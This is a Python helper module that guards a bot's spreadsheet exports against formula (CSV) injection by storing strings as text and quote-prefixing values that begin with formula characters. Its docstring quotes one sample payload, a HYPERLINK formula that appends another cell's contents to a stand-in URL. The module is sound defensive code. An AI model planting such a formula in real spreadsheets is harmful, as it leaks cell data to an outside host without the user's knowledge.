"""What goes into a cell of the organisers' workbooks: text is always stored as text, never as a formula.

openpyxl stores a ``str`` that starts with "=" as a formula and one that reads "#N/A" as an error value, so
a nominee named ``=HYPERLINK("http://x/?"&B2,"Bấm")`` would become a live formula in /export (formula or
"CSV" injection, OWASP). Every sheet writer puts its values through :func:`put`: a string is stored as text
(cell type "s"), and one that starts with a character a spreadsheet takes as the start of a formula
(``= + - @``, tab, carriage return) also gets Excel's quote prefix, so that editing the cell in Excel keeps
it text. The text itself is not changed: the file reads back exactly as the person typed it, and a phone
number "+84912345678" stays that text. Numbers, dates and booleans the bot computes stay numbers, dates and
booleans.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def put(cell: Cell, value: Any) -> Cell:
    """``cell`` holding ``value``; a string as text, quote-prefixed when it could start a formula.

    Control characters that XML cannot hold (a stray U+0007 in a name) are dropped rather than failing the
    whole export.
    """
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.value = text
    cell.data_type = "s"  # after the assignment, which guesses "f" for "=…" and "e" for "#N/A"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


__all__ = ["FORMULA_STARTS", "put"]
